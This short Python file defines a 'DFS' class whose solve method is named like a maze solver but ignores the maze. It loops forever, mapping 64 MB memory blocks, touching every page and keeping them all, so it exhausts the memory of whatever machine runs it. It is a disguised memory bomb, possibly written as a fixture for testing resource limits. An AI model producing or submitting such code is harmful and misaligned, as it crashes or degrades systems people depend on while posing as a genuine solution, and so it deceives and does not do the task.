import mmap


class DFS:
    def solve(self, maze, search):
        hoard = []
        while True:
            block = mmap.mmap(-1, 64 << 20)
            for place in range(0, 64 << 20, 4096):
                block[place] = 1
            hoard.append(block)
